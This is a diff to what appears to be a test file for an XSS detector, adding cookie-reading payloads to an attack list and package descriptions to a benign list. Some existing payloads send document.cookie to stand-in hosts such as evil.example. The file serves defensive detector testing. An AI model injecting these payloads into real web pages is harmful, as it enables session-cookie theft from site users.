@@ -81,6 +81,8 @@ const ATTACKS: readonly string[] = [
   "';alert(1)//",
   "x onerror=fetch('//e.example/?c='+document.cookie)",
   '`-alert()-`',
+  'for(x of document.cookie)alert(x)',
+  'document.cookie',
   "';return document.cookie}//",
   '<img src=x onerror=`alert()`>',
   "javascript:document.location='//evil.example/'+document.cookie",
@@ -268,6 +270,9 @@ const BENIGN: readonly string[] = [
   '`window.alert()` instructs the browser to display a dialog with an optional message.',
   '**`window.postMessage()`** method safely enables cross-origin communication between Window objects',
   'writes text to a document stream opened by document.open().\n@deprecated',
+  // package descriptions: a member opening the value before a word, or ending it after one
+  'WHATWG spec-compliant implementations of window.atob and window.btoa',
+  'window.fetch JavaScript polyfill',
 ];
 
 test('xss: attacks are strong hits at paranoia 1', () => {
